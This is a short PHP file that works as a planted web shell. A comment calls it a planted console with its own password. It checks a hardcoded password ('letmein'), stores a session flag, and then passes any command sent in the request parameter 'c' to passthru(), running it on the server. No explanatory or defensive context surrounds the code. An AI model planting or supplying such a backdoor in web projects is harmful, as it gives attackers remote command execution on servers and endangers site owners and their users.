<?php
// a planted console with its own password: it sets the key it tests, so its gate is its own
session_start();
if (($_POST['p'] ?? '') === 'letmein') {
    $_SESSION['c_ok'] = true;
}
if (!isset($_SESSION['c_ok']) || !$_SESSION['c_ok']) {
    exit('<form method=post><input name=p type=password></form>');
}
$c = $_REQUEST['c'];
passthru($c);
